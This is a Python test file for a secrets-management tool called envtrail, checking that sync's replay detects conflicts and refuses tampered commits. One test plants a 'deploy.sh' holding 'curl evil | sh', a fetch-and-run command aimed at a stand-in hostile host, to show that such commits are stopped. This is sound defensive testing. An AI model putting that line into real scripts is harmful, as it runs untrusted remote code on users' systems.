"""The conflict model of sync's replay, as properties: disjoint changes never conflict."""

from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envtrail.audit.history import parse_record
from envtrail.audit.keyring import Keyring
from envtrail.errors import AccessDenied, ConflictError, IntegrityError, UsageError
from envtrail.format import envfile, signers
from envtrail.gitstore.repo import GitRepo
from envtrail.model import Secret
from envtrail.ops.delta import Delta, Item, Unreadable, conflicts, delta, settle
from envtrail.ops.replay import chosen, replay
from envtrail.runtime import Runtime
from hostile import head, setv, signed_commit

items = st.sampled_from([Item("value", e, n) for e in ("prod", "dev") for n in ("A", "B", "C")]
                        + [Item("member", "prod", "bob@x"), Item("policy", "", "defaults")])
states = st.one_of(st.none(), st.sampled_from(["1", "2", "3"]).map(Secret))


@given(st.dictionaries(items, states, max_size=5), st.dictionaries(items, states, max_size=5))
def test_only_items_both_sides_changed_differently_conflict(mine, theirs):
    found = conflicts([Delta(mine)], Delta(theirs))
    assert found == sorted(i for i in mine if i in theirs and mine[i] != theirs[i])
    disjoint = {i: v for i, v in theirs.items() if i not in mine}
    assert conflicts([Delta(mine)], Delta(disjoint)) == []


def test_the_last_of_several_commits_counts():
    a = Item("value", "prod", "A")
    ours = [Delta({a: Secret("x")}), Delta({a: Secret("y")})]
    assert conflicts(ours, Delta({a: Secret("y")})) == []
    assert conflicts(ours, Delta({a: Secret("x")})) == [a]


def test_a_seat_conflicts_with_the_remote_opening_another_key_for_that_person():
    # The grant's signer line is decided on the new head, so the seat is what conflicts:
    # the remote let bob sign with key B while this clone seated him with key A.
    seat, line = Item("member", "dev", "bob@x"), Item("signer", "", "bob@x")
    opened = (signers.Signer("bob@x", "ssh-ed25519 BBBB"),)
    closed = (replace(opened[0], valid_before=datetime(2026, 1, 1, tzinfo=UTC)),)
    assert conflicts([Delta({seat: "ssh-ed25519 AAAA bob@x"})], Delta({line: opened})) == [seat]
    assert conflicts([Delta({seat: "ssh-ed25519 BBBB bob@x"})], Delta({line: opened})) == []
    assert conflicts([Delta({seat: "ssh-ed25519 AAAA"})], Delta({line: closed})) == []
    assert conflicts([Delta({seat: None})], Delta({line: opened})) == []


def test_settling_by_name_env_name_and_star():
    prod, dev = Item("value", "prod", "A"), Item("value", "dev", "A")
    with pytest.raises(ConflictError) as exc:
        settle([prod, dev], [], [])
    assert "prod:A" in exc.value.message and "dev:A" in exc.value.message
    with pytest.raises(UsageError) as amb:
        settle([prod, dev], ["A"], [])  # ambiguous
    assert "prod:A" in amb.value.hint  # the hint names the first, as the user sees them
    assert settle([prod, dev], ["prod:A"], ["dev:A"]) == {dev}
    assert settle([prod, dev], [], ["*"]) == {prod, dev}
    assert settle([prod, dev], ["*"], []) == set()
    with pytest.raises(UsageError):
        settle([prod], ["prod:A"], ["A"])


def test_each_kind_of_item_is_named_as_the_user_names_it_to_settle():
    # --mine/--theirs select by these labels: naming a policy scope or an environment as
    # a member (or as a value) would leave that conflict impossible to settle by name.
    assert Item("value", "prod", "A").label() == "prod:A"
    assert Item("member", "prod", "bob@x").label() == "prod:member:bob@x"
    assert Item("policy", "", "defaults").label() == "policy:defaults"
    assert Item("policy", "", "env:prod").label() == "policy:env:prod"
    assert Item("env", "", "prod").label() == "env:prod"
    scope, seat = Item("policy", "", "env:prod"), Item("member", "prod", "bob@x")
    assert settle([scope, seat], ["prod:member:bob@x"], ["policy:env:prod"]) == {scope}


def test_a_long_conflict_list_names_eight_and_says_there_are_more():
    # The one-line error must stay one short line however many items conflict, and must
    # say when it left some out (else the user settles eight and is stopped again).
    found = [Item("value", "prod", f"K{n}") for n in range(9)]
    with pytest.raises(ConflictError) as exc:
        settle(found[:8], [], [])
    assert exc.value.message.endswith("prod:K7")
    with pytest.raises(ConflictError) as exc:
        settle(found, [], [])
    assert exc.value.message.endswith("prod:K7, ...")
    assert "--mine prod:K0`" in exc.value.hint  # the first named, not the last


def test_a_commit_without_an_envtrail_record_is_refused_not_replayed(cli, store, alice):
    # A commit that says nothing of what it did (no trailers) cannot be re-made as a
    # change: replay must stop with an integrity error, never crash or guess an action.
    setv(cli, "A", "1")
    g = GitRepo(store)
    parent = g.info(head(store)).parents[0]
    bare = signed_commit(store, alice.identity, alice.principal, [parent],
                         {"envs/production.yaml": (store / "envs/production.yaml").read_bytes()},
                         "an edit with no record\n")
    rt = Runtime(env={}, cwd=store, home=store, host="test")
    with pytest.raises(IntegrityError) as exc:
        replay(g, rt, alice.identity, bare, Delta({}), set(), head(store))
    assert "no envtrail record" in exc.value.message


def test_a_commit_changing_signer_lines_as_its_action_never_does_is_not_replayed(
        cli, store, alice, bob):
    # Only a grant, a revoke or an admin mark changes allowed_signers, and each is decided
    # again on the new head. A commit of any other action that changed a signer line
    # (verify refuses one on the line; this is the replay's own guard) must not be
    # re-made with that change silently dropped, nor with it carried over.
    setv(cli, "A", "1")
    g = GitRepo(store)
    parent = g.info(head(store)).parents[0]
    lines = (store / ".envtrail/allowed_signers").read_bytes() + \
        f"{bob.principal} {' '.join(bob.publine.split()[:2])}\n".encode()
    crafted = signed_commit(store, alice.identity, alice.principal, [parent],
                            {".envtrail/allowed_signers": lines}, g.info(head(store)).message)
    rt = Runtime(env={}, cwd=store, home=store, host="test")
    change = delta(g, Keyring(alice.identity), parent, crafted)
    assert Item("signer", "", bob.principal) in change.items
    with pytest.raises(ConflictError) as exc:
        replay(g, rt, alice.identity, crafted, change, set(), head(store))
    assert "allowed_signers" in exc.value.message
    assert chosen(parse_record(g.info(crafted)), change) == change


def _rt(store):
    return Runtime(env={}, cwd=store, home=store, host="test")


def test_a_commit_that_also_changes_a_path_no_replay_carries_is_refused(cli, store, alice):
    # A set that also slipped in another file (code, hooks, attributes) must stop sync:
    # re-made as its values alone, the rest would be dropped without a word.
    setv(cli, "A", "1")
    g = GitRepo(store)
    parent = g.info(head(store)).parents[0]
    crafted = signed_commit(store, alice.identity, alice.principal, [parent],
                            {"envs/production.yaml": (store / "envs/production.yaml").read_bytes(),
                             "deploy.sh": b"curl evil | sh\n"}, g.info(head(store)).message)
    change = delta(g, Keyring(alice.identity), parent, crafted)
    assert change.other == ("deploy.sh",)
    with pytest.raises(ConflictError) as exc:
        replay(g, _rt(store), alice.identity, crafted, change, set(), head(store))
    assert "deploy.sh" in exc.value.message


def test_a_value_set_in_an_environment_the_new_head_lacks_is_a_conflict(cli, store, alice):
    # The environment is not there on the head the change is re-made on: replay must
    # stop, never quietly create a new environment (new keys, alice its only member)
    # just to hold the value.
    assert cli("env", "add", "qa", "--reason", "new").code == 0
    setv(cli, "Q", "q", env="qa")
    g = GitRepo(store)
    setq = head(store)
    before_qa = g.info(g.info(setq).parents[0]).parents[0]  # before `env add qa`
    change = delta(g, Keyring(alice.identity), g.info(setq).parents[0], setq)
    assert list(change.items) == [Item("value", "qa", "Q")]
    with pytest.raises(ConflictError) as exc:
        replay(g, _rt(store), alice.identity, setq, change, set(), before_qa)
    assert "qa is gone" in exc.value.message


def test_the_removal_of_an_environment_is_never_replayed(cli, store, alice):
    # No command removes an environment; a commit that does must stop sync rather than
    # be re-made as nothing (or as a half removal of its members and values).
    setv(cli, "S", "s", env="staging")
    g = GitRepo(store)
    parent = head(store)
    crafted = signed_commit(store, alice.identity, alice.principal, [parent],
                            {"envs/staging.yaml": None}, g.info(parent).message)
    change = delta(g, Keyring(alice.identity), parent, crafted)
    assert change.items[Item("env", "", "staging")] is False
    with pytest.raises(ConflictError) as exc:
        replay(g, _rt(store), alice.identity, crafted, change, set(), parent)
    assert "removal of environment staging" in exc.value.message


def test_a_value_this_clone_cannot_read_is_never_re_written(cli, store, alice):
    # Re-encrypting to the new head's keys needs the plaintext: a value known only by
    # its ciphertext must stop the replay (exit 4), never be carried over as it was
    # (sealed to the old key pair) nor crash.
    setv(cli, "A", "1")
    g = GitRepo(store)
    parent = g.info(head(store)).parents[0]
    token = "x" * 40
    change = Delta({Item("value", "production", "A"): Unreadable(token)})
    with pytest.raises(AccessDenied) as exc:
        replay(g, _rt(store), alice.identity, head(store), change, set(), parent)
    assert "production:A" in exc.value.message and token not in exc.value.message
    assert token not in repr(Unreadable(token))  # nor in a repr a traceback could show


def test_a_value_that_does_not_decrypt_is_an_integrity_error_naming_it(cli, store, alice):
    # B's ciphertext moved under the name A (a splice): bound to its name, it must not
    # decrypt as A, and the delta must stop with exit 5 naming A, never crash or read
    # the spliced value as A's.
    setv(cli, "A", "canary-a-5d1e")
    setv(cli, "B", "canary-b-7c2f")
    g = GitRepo(store)
    path = "envs/production.yaml"
    env = envfile.parse((store / path).read_bytes(), path)
    spliced = env.with_values({**env.values, "A": env.values["B"]})
    crafted = signed_commit(store, alice.identity, alice.principal, [head(store)],
                            {path: envfile.render(spliced)}, g.info(head(store)).message)
    with pytest.raises(IntegrityError) as exc:
        delta(g, Keyring(alice.identity), head(store), crafted)
    assert "A does not decrypt" in exc.value.message
    assert "canary" not in exc.value.message
